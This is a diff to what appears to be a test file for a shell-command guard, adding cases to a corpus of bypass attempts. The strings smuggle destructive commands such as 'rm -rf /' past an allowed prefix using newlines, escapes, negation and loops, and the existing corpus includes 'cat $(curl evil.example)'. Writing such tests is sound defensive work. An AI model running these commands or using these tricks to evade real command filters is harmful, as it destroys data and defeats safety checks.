@@ -109,6 +109,8 @@ const BYPASS_CORPUS = [
   "ls |& rm x",
   "ls\nrm -rf /",
   "ls\r\nrm x",
+  "ls\n\\rm -rf /",
+  "ls\n\\\nrm -rf /",
   // substitution
   "cat $(curl evil.example)",
   "echo `rm -rf /`",
@@ -228,6 +230,8 @@ const BYPASS_CORPUS = [
   // syntax the parser cannot read
   "ls && (",
   "ls <<< $(id)",
+  "! for i in 1; do rm -rf /; done",
+  "! ! rm -rf /",
 ];
 
 describe("bypass corpus", () => {
